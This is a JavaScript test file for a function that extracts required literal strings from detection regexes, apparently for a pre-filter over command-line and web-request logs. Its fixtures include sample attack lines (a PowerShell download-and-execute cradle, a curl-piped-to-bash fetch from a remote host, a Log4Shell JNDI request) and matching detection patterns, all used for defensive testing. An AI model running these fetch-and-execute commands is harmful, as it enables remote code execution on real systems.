// The literals the pre-filter requires of a `|re` value: what they are for common shapes, none
// where the reading is unsure, and never one a matching text lacks (checked on Windows and
// Linux command lines and web requests as their logs write them).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fold } from './fold.js';
import { regexLiterals } from './regex-literal.js';

test('regex literals: the longest plain run of each top-level alternative', () => {
  assert.deepEqual(regexLiterals('ipconfig\\s+/all'), ['ipconfig']);
  assert.deepEqual(regexLiterals('net\\s+stop SuperBackupMan'), ['stop superbackupman']);
  assert.deepEqual(regexLiterals('\\\\[a-zA-Z0-9]{1,32}\\.[a-zA-Z0-9]{1,6}\\.[ "\']{1}'), ['\\']);
  assert.deepEqual(regexLiterals('echo.*clip.*&&.*(?:Clipboard|i`?n`?v`?o`?k`?e`?)'), ['echo']);
  assert.deepEqual(regexLiterals('iex|invoke-expression'), ['iex', 'invoke-expression']);
  assert.deepEqual(regexLiterals('(iex|invoke-expression)\\(new-object'), ['(new-object']);
  // Quantified atoms are not required as written: the run stops before them.
  assert.deepEqual(regexLiterals('abcd?ef'), ['abc']);
  assert.deepEqual(regexLiterals('ab+cd'), ['cd']);
  assert.deepEqual(regexLiterals('x{2,3}yz'), ['yz']);
  assert.deepEqual(regexLiterals('wh{0}oami'), ['oami']);
  // A brace that is no quantifier is a character, as in JavaScript's regexes.
  assert.deepEqual(regexLiterals('\\$\\{jndi:'), ['${jndi:']);
  assert.deepEqual(regexLiterals('a{b'), ['a{b']);
  // Classes, dots and anchors break runs; escaped punctuation does not.
  assert.deepEqual(regexLiterals('^c:\\\\windows\\\\[^\\\\]+\\.exe$'), ['c:\\windows\\']);
});

test('regex literals: none when an alternative has none or the reading is unsure', () => {
  for (const source of [
    '',
    '.*',
    '[0-9]{2,}',
    'abc|[0-9]',
    '(abc)',
    '\\x41bc',
    '\\u0041bc',
    '(a)\\1bc',
    '(?<n>a)\\k<n>',
    '\\cJab',
    'ab(',
    '*ab',
    'ä',
  ]) {
    assert.equal(regexLiterals(source), null, source);
  }
});

const TEXTS = [
  'C:\\Windows\\system32\\cmd.exe /c ipconfig /all > C:\\Users\\bob\\AppData\\Local\\Temp\\res.ip',
  'powershell.exe -NoP -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString(\'http://10.0.0.5/a.ps1\')"',
  'powershell -c "iNvOkE-ExPrEsSiOn $env:x"',
  'ECHO Invoke-Expression | clip && powershell -STA',
  'netsh  interface show interface',
  'rundll32.exe C:\\ProgramData\\x.y.dll,Start',
  '/bin/bash -c "curl -fsSL http://203.0.113.7/x.sh | bash"',
  'GET /index.php?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1',
  'wwhoami /all',
  'STRAẞE ſtart K',
];
const SOURCES = [
  ['ipconfig\\s+/all', ''],
  ['(?:iex|invoke-expression)\\s*\\(', 'i'],
  ['iex|invoke-expression', 'i'],
  ['echo.*clip.*&&', 'i'],
  ['netsh\\s+interface show interface', ''],
  ['\\\\[a-zA-Z0-9]{1,32}\\.[a-zA-Z0-9]{1,6}\\.', ''],
  ['curl\\s+-[a-z]+\\s+https?://', ''],
  ['\\$\\{jndi:(ldap|rmi|dns)', 'i'],
  ['wh?oami', 'i'],
  ['sTart k', 'i'],
  ['strasse|ſtart', 'iu'],
];

test('regex literals: every text a regex matches holds one of its literals, folded', () => {
  let matched = 0;
  for (const [source = '', flags] of SOURCES) {
    const literals = regexLiterals(source);
    assert.ok(literals, source);
    const regex = new RegExp(source, flags);
    for (const text of TEXTS) {
      if (!regex.test(text)) continue;
      matched++;
      assert.ok(
        literals.some((literal) => fold(text).includes(literal)),
        `${source} matches ${text} but none of ${JSON.stringify(literals)} is in it`,
      );
    }
  }
  assert.ok(matched >= 10, `only ${matched} matches: the texts do not exercise the regexes`);
});
